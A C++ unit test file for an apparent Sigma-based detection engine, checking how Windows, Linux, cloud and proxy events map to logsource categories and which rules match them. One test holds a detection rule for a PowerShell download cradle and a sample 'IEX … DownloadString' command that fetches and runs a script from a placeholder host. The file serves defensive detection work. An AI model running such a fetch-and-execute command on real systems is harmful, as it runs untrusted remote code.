// Which Sigma logsource an event belongs to decides which rules see it.
#include "correlator/engine/logsource.h"

#include <gtest/gtest.h>

#include "tests/unit/correlator/engine/test_util.h"

namespace tripline::correlator::engine {
namespace {

v1::Event WindowsEvent(const std::string& channel, uint32_t code) {
  v1::Event e;
  e.mutable_windows()->set_channel(channel);
  e.mutable_windows()->set_event_code(code);
  return e;
}

TEST(Logsource, WindowsChannelsAndEventIdsMapToSigmaCategories) {
  struct Case {
    std::string channel;
    uint32_t code;
    std::string service, category;
  } cases[] = {
      {"Microsoft-Windows-PowerShell/Operational", 4104, "powershell", "ps_script"},
      {"Microsoft-Windows-PowerShell/Operational", 4103, "powershell", "ps_module"},
      {"Windows PowerShell", 400, "powershell-classic", "ps_classic_start"},
      {"Microsoft-Windows-Sysmon/Operational", 13, "sysmon", "registry_set"},
      {"Microsoft-Windows-Sysmon/Operational", 7, "sysmon", "image_load"},
      {"Microsoft-Windows-CodeIntegrity/Operational", 3033, "codeintegrity-operational", ""},
      {"Security", 5145, "security", ""},
      {"Microsoft-Windows-Sysmon/Operational", 4, "sysmon", "sysmon_status"},
      {"Microsoft-Windows-Sysmon/Operational", 16, "sysmon", "sysmon_status"},
      {"Microsoft-Windows-Sysmon/Operational", 255, "sysmon", "sysmon_error"},
      {"Microsoft-Windows-Sysmon/Operational", 29, "sysmon", "file_executable_detected"},
      {"Microsoft-Windows-AppLocker/EXE and DLL", 8004, "applocker", ""},
      {"Microsoft-Windows-Security-Mitigations/User Mode", 12, "security-mitigations", ""},
      {"DNS Server", 6004, "dns-server", ""},
      {"Microsoft-Windows-SMBServer/Connectivity", 1001, "smbserver-connectivity", ""},
  };
  for (const Case& c : cases) {
    EventLogsource ls = DeriveLogsource(WindowsEvent(c.channel, c.code));
    EXPECT_EQ(ls.service, c.service) << c.channel << " " << c.code;
    EXPECT_EQ(ls.category, c.category) << c.channel << " " << c.code;
    EXPECT_EQ(ls.product, "windows");
  }
}

TEST(Logsource, RegistryEventRulesSeeEveryRegistryCategoryButNothingElse) {
  EXPECT_TRUE(CategoryMatches("registry_event", "registry_set"));
  EXPECT_TRUE(CategoryMatches("registry_event", "registry_delete"));
  EXPECT_FALSE(CategoryMatches("registry_event", "image_load"));
  EXPECT_FALSE(CategoryMatches("registry_set", "registry_add"));
}

TEST(Logsource, DeletedFilesAreFileDeleteRenamesFileRenameOthersFileEvent) {
  v1::Event e;
  e.mutable_file()->set_action(v1::FileChange::ACTION_DELETED);
  EXPECT_EQ(DeriveLogsource(e).category, "file_delete");
  e.mutable_file()->set_action(v1::FileChange::ACTION_CREATED);
  EXPECT_EQ(DeriveLogsource(e).category, "file_event");
  e.mutable_file()->set_action(v1::FileChange::ACTION_RENAMED);
  EXPECT_EQ(DeriveLogsource(e).category, "file_rename");
  // A renamed file is a file under a new name: file_event rules see it, delete rules do not.
  EXPECT_TRUE(CategoryMatches("file_event", "file_rename"));
  EXPECT_TRUE(CategoryMatches("file_rename", "file_rename"));
  EXPECT_FALSE(CategoryMatches("file_rename", "file_event"));
  EXPECT_FALSE(CategoryMatches("file_delete", "file_rename"));
}

// A Linux collector shipping Sysmon records forwarded as JSON: the records are Windows', so
// `product: windows` rules see them (the demo's agents run on Linux and caught nothing before).
TEST(Logsource, WindowsEventRecordsAreWindowsWhateverTheShippingHostRuns) {
  v1::Event e;
  e.mutable_host()->set_os_type("linux");
  e.mutable_process()->mutable_process()->set_executable("C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(DeriveLogsource(e).product, "linux");
  Logsource windows_rule{"windows", "process_creation", ""};
  EXPECT_FALSE(LogsourceMatches(windows_rule, DeriveLogsource(e)));
  for (const char* format : {"winevent_json", "evtx"}) {
    e.mutable_source()->set_format(format);
    EXPECT_EQ(DeriveLogsource(e).product, "windows") << format;
    EXPECT_TRUE(LogsourceMatches(windows_rule, DeriveLogsource(e))) << format;
  }
}

TEST(Logsource, RpcFirewallChannelIsItsOwnProduct) {
  EventLogsource ls = DeriveLogsource(WindowsEvent("RPCFW", 3));
  EXPECT_EQ(ls.product, "rpc_firewall");
  EXPECT_EQ(ls.category, "application");
  EXPECT_EQ(ls.service, "");
}

// What a source declares replaces what the body says, part by part.
TEST(Logsource, DeclaredLogsourceOverridesTheDerivedParts) {
  v1::Event json;
  (*json.mutable_app()->mutable_fields())["eventName"] = "StopLogging";
  json.mutable_host()->set_os_type("linux");
  EXPECT_EQ(DeriveLogsource(json).product, "linux");
  json.mutable_source()->mutable_logsource()->set_product("aws");
  json.mutable_source()->mutable_logsource()->set_service("cloudtrail");
  EventLogsource ls = DeriveLogsource(json);
  EXPECT_EQ(ls.product, "aws");
  EXPECT_EQ(ls.service, "cloudtrail");
  EXPECT_EQ(ls.category, "");
  EXPECT_TRUE(LogsourceMatches({"aws", "", "cloudtrail"}, ls));
  EXPECT_FALSE(LogsourceMatches({"azure", "", "auditlogs"}, ls));
  EXPECT_FALSE(LogsourceMatches({"linux", "process_creation", ""}, ls));

  v1::Event proxy = testing::HttpEvent("GET", "/dl/a.exe");
  proxy.mutable_source()->set_format("w3c");
  EXPECT_EQ(DeriveLogsource(proxy).category, "webserver");
  proxy.mutable_source()->mutable_logsource()->set_category("proxy");
  ls = DeriveLogsource(proxy);
  EXPECT_EQ(ls.category, "proxy");
  EXPECT_EQ(ls.product, "windows");  // not declared: still derived from the W3C format
  EXPECT_TRUE(LogsourceMatches({"", "proxy", ""}, ls));
  EXPECT_FALSE(LogsourceMatches({"", "webserver", ""}, ls));
}

TEST(Logsource, ScriptBlockRuleFiresOnAPowerShell4104Event) {
  std::string rule =
      "title: Encoded download cradle\nid: ps-1\nlogsource:\n  product: windows\n"
      "  category: ps_script\ndetection:\n  sel:\n    ScriptBlockText|contains|all:\n"
      "      - Net.WebClient\n      - DownloadString\n  condition: sel\nlevel: high\n";
  v1::Event e = WindowsEvent("Microsoft-Windows-PowerShell/Operational", 4104);
  (*e.mutable_windows()->mutable_data())["ScriptBlockText"] =
      "IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')";
  EXPECT_EQ(testing::Run(rule, e).size(), 1u);
  e.mutable_windows()->set_event_code(4103);  // a module event is not a script block
  EXPECT_TRUE(testing::Run(rule, e).empty());
}

}  // namespace
}  // namespace tripline::correlator::engine
